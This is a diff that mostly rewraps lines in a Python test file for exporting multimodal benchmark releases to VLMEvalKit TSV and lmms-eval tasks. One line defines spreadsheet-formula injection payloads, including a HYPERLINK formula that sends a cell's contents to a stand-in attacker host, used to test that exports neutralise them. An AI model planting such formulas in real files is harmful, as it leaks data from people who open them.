@@ -24,16 +24,16 @@ def releases(tmp_path_factory):
     made = {}
     for recipe, overrides in (("multiverse", SMALL), ("alignmmbench", {})):
         tmp_path = tmp_path_factory.mktemp(recipe)
-        made[recipe] = write_release(finished_run(tmp_path, recipe, recipe, images=6, overrides=overrides),
-                                     tmp_path / "out")
+        made[recipe] = write_release(
+            finished_run(tmp_path, recipe, recipe, images=6, overrides=overrides), tmp_path / "out"
+        )
     return made
 
 
 def vlmevalkit_images(table: pd.DataFrame) -> dict[int, bytes]:
     """The image of each row as VLMEvalKit resolves it: base64, or (64 characters or fewer) another row's index."""
     cells = dict(zip(table["index"].astype(str), table["image"].astype(str)))
-    return {int(index): base64.b64decode(cells[value] if len(value) <= 64 else value)
-            for index, value in cells.items()}
+    return {int(index): base64.b64decode(cells[value] if len(value) <= 64 else value) for index, value in cells.items()}
 
 
 def test_vlmevalkit_tsv_has_a_row_per_turn_with_the_gold_history_and_each_image_once(releases, tmp_path):
@@ -42,8 +42,9 @@ def test_vlmevalkit_tsv_has_a_row_per_turn_with_the_gold_history_and_each_image_
     assert path.name == f"{dataset_name('multiverse-curated', '0.1.0')}.tsv" == "multiverse_curated_v0_1_0.tsv"
     table = pd.read_csv(path, sep="\t", keep_default_na=False)
     data = list(rows(open_release(release), "test"))
-    user_turns = [(row, k, turn) for row in data for k, turn in enumerate(row["conversation"])
-                  if turn["speaker"] == "user"]
+    user_turns = [
+        (row, k, turn) for row in data for k, turn in enumerate(row["conversation"]) if turn["speaker"] == "user"
+    ]
     assert len(table) == len(user_turns) and list(table["index"]) == list(range(len(table)))
     assert {"index", "image", "question", "answer", "category"} <= set(table.columns)
     images = vlmevalkit_images(table)
@@ -86,6 +87,7 @@ FORMULAS = ('=HYPERLINK("http://attacker.example/?q="&A1,"click")', "+1+1", "-2+
 
 def with_formulas(release, into):
     """A copy of a release whose first sample's question, references and caption start as spreadsheet formulas."""
+
     def edit(rows: list[dict]) -> list[dict]:
         users = [turn for turn in rows[0]["conversation"] if turn["speaker"] == "user"]
         for turn, formula in zip(users, FORMULAS):
@@ -98,6 +100,7 @@ def with_formulas(release, into):
         if rows[0].get("caption"):
             rows[0]["caption"] = FORMULAS[3]
         return rows
+
     return edited_release(release, into, edit)
 
 
@@ -132,8 +135,9 @@ def test_an_export_into_a_folder_holding_other_files_refuses_instead_of_deleting
     assert (task.folder / "notes.txt").read_text() == "mine" and (task.folder / "utils.py").exists()
 
 
-def test_the_lmms_eval_task_marks_lower_is_better_metrics_and_says_why_turns_failed(releases, tmp_path, monkeypatch,
-                                                                                    capsys):
+def test_the_lmms_eval_task_marks_lower_is_better_metrics_and_says_why_turns_failed(
+    releases, tmp_path, monkeypatch, capsys
+):
     task = export_lmms_eval(releases["alignmmbench"], tmp_path / "tasks")
     spec = yaml.safe_load((task.folder / f"{task.name}.yaml").read_text().replace("!function ", ""))
     better = {metric["metric"]: metric["higher_is_better"] for metric in spec["metric_list"]}
